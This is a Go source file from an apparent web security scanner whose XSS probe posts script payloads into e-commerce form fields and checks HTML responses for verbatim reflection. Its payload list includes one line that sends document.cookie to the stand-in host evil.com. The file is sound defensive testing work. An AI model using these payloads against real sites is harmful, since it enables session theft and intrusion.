package scanners

import (
	"bytes"
	"context"
	"fmt"
	"net/http"
	"strings"

	"github.com/yorozuya-cybersecurity/ecomprobe/internal/registry"
	"github.com/yorozuya-cybersecurity/ecomprobe/internal/schema"
)

var xssPayloads = []string{
	"<script>alert('XSS')</script>",
	"<img src=x onerror=alert('XSS')>",
	"javascript:alert('XSS')",
	"<svg onload=alert('XSS')>",
	"<iframe src=javascript:alert('XSS')>",
	"'><script>alert('XSS')</script>",
	"\"><script>alert('XSS')</script>",
	"<script>document.location='http://evil.com/'+document.cookie</script>",
	"<body onload=alert('XSS')>",
	"<input onfocus=alert('XSS') autofocus>",
}

const xssActivePayloads = 5

type formTarget struct {
	Service registry.ServiceID
	Fields  []string
}

var xssTargets = []formTarget{
	{registry.ProductService, []string{"productTitle"}},
	{registry.CategoryService, []string{"categoryTitle"}},
	{registry.UserService, []string{"firstName", "lastName"}},
	{registry.AddressService, []string{"fullAddress"}},
}

// reflected needs the payload verbatim in the body; encoded reflections are
// not decoded.
func reflected(o Observation) bool {
	return bytes.Contains(o.Body, []byte(o.Payload)) &&
		strings.HasPrefix(o.Header.Get("Content-Type"), "text/html")
}

var xssRules = Rules{
	{
		Name:     "reflected",
		Match:    reflected,
		Severity: schema.SeverityHigh,
		Category: "Cross-Site Scripting (XSS)",
		Describe: func(o Observation) string {
			return fmt.Sprintf("Reflected XSS in %s", o.Field)
		},
	},
}

// XSS posts script payloads into text fields of the catalogue and user
// services and looks for verbatim reflection in HTML responses.
type XSS struct{}

func (XSS) Name() string { return "xss" }

func (XSS) Services(*registry.Registry) []registry.ServiceID {
	ids := make([]registry.ServiceID, 0, len(xssTargets))
	for _, t := range xssTargets {
		ids = append(ids, t.Service)
	}
	return ids
}

func (p XSS) Run(ctx context.Context, env Env) (Outcome, error) {
	var out Outcome
	l := env.probeLogger(p)
	l.Info().Msg("Testing XSS")

	for _, target := range xssTargets {
		u, err := env.Registry.URL(env.BaseURL, target.Service)
		if err != nil {
			return out, err
		}
		for _, field := range target.Fields {
			for _, payload := range xssPayloads[:xssActivePayloads] {
				if err := ctx.Err(); err != nil {
					return out, err
				}
				form := make(map[string]string, len(target.Fields))
				for _, f := range target.Fields {
					form[f] = ""
				}
				form[field] = payload

				res, ok := env.send(ctx, &out, l, jsonRequest(http.MethodPost, u, form))
				if !ok {
					continue
				}
				o := observe(target.Service, http.MethodPost, u, res)
				o.Payload = payload
				o.Field = field
				env.evaluate(&out, xssRules, o)
			}
		}
	}
	return out, nil
}
